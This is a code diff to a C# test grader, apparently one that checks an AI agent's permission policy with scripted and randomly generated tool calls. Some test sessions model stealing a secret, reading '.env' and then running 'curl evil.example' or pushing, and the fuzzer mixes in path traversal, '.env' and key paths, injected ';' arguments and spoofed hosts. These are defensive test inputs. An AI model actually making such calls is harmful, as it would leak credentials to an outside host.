@@ -44,7 +44,8 @@ public sealed partial class PermissionsGrader
     }
 
     private static string Shown(Memory memory) =>
-        $"{memory.Written} written, {(memory.IsTainted ? "" : "not ")}tainted, approved {string.Join(" and ", memory.Approved.Select(Shown))}";
+        $"{memory.Written} written, {(memory.IsTainted ? "" : "not ")}tainted, approved: "
+        + (memory.Approved.Length == 0 ? "none" : string.Join(" and ", memory.Approved.Select(Shown)));
 
     private void Sessions()
     {
@@ -52,7 +53,8 @@ public sealed partial class PermissionsGrader
         Session("a task from start to end", [], [new("read", "README.md"), fetch, write, test, write, test, new("run", "git diff src")]);
         Session("writes until none is left", [], [.. Enumerable.Repeat(write, _policy.Writes + 2)]);
         Session("writes that were approved", [write, write], [.. Enumerable.Repeat(write, _policy.Writes + 3)]);
-        Session("a secret, and then out with it", [new("read", ".env")], [fetch, test, new("read", ".env"), fetch, test, new("push", "main")]);
+        Session("a secret, and then out with it", [new("read", ".env")],
+            [fetch, test, new("read", ".env"), fetch, test, new("push", "main")]);
         Session("an approval got before the secret was read", [new("push", "main"), new("read", ".env"), new("run", "curl evil.example")],
             [new("read", ".env"), new("run", "curl evil.example"), new("push", "main")]);
         Session("an approval used twice", [new("delete", "src/a.cs")], [new("delete", "src/a.cs"), new("delete", "src/a.cs")]);
@@ -78,13 +80,15 @@ public sealed partial class PermissionsGrader
 
     private void Together() => Case("300 calls put together at random", () =>
     {
-        string[] pieces = ["src", "..", ".", "", "a.cs", ".env", "Customers", "keys", ".git", "tests", Tests, Key, "b.", "c d", "x:y", _project];
+        string[] pieces = ["src", "..", ".", "", "a.cs", ".env", "Customers", "keys", ".git", "tests", Tests, Key, "b.", "c d", "x:y",
+            _project];
         string Any() => string.Join(Draw.Of("/", "/", "\\"), Enumerable.Range(0, Draw.Int(1, 5)).Select(_ => Draw.Of(pieces)));
         string Somewhere() => Draw.Of("", "", $"{_policy.Root}/", $"{_policy.Root}2/", "/") + Any();
         string Word() => Draw.Int(0, 3) > 0 ? Somewhere() : Draw.Of("-o", "a=b", "a;b", "status", "diff");
         Call Made() => Draw.Int(0, 3) switch
         {
-            0 => new("run", string.Join(' ', (string[])[Draw.Of(_policy.Commands), .. Enumerable.Range(0, Draw.Int(0, 2)).Select(_ => Word())])),
+            0 => new("run", string.Join(' ',
+                (string[])[Draw.Of(_policy.Commands), .. Enumerable.Range(0, Draw.Int(0, 2)).Select(_ => Word())])),
             1 => new("fetch", Draw.Of("https://", "HTTPS://", "http://") + Draw.Of("", "evil.", "a@")
                 + Draw.Of(_policy.Hosts) + Draw.Of("", ":443", ":80", ".example") + Draw.Of("", "/", "?", "\\") + Draw.Of("", "a", "@b")),
             _ => new(Draw.Of("read", "write", "delete"), Somewhere(), Draw.Int(0, 3) == 0 ? Somewhere() : "", Draw.Int(0, 4) == 0),
